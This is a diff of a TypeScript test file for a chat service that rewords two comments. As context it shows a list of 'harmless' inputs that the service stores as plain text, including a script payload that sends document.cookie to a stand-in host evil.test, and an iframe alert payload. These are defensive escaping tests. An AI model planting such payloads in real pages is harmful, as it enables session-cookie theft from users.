@@ -3,7 +3,7 @@ import { type Answer, type Caller, caller, everyRole, manyClients } from '../loc
 import { asVisitor, aToken, startChat, type Visitor, WITHOUT_LIMITS } from '../local/testing/chat';
 import { type HostProcess, startHost } from '../local/testing/hostProcess';
 
-/** Looks dangerous, is text: stored and shown as it is. */
+/** Looks dangerous but is only text: stored and shown as it is. */
 const harmless = [
   `<script>fetch('//evil.test?c='+document.cookie)</script>`,
   `<iframe srcdoc='<script>parent.alert(1)</script>'>`,
@@ -122,7 +122,7 @@ describe('what is written into a chat', () => {
          where action in ('chatStart', 'chatSend', 'chatSecret')`,
       );
     });
-    /** Any window may end between two calls: so many calls that one window sees too many of them. */
+    /** A window may end between any two calls: makes enough calls for one window to get too many of them. */
     const flood = async (calls: number, call: () => Promise<Answer>): Promise<Answer[]> => {
       const answers: Answer[] = [];
       for (let count = 0; count < calls; count++) answers.push(await call());
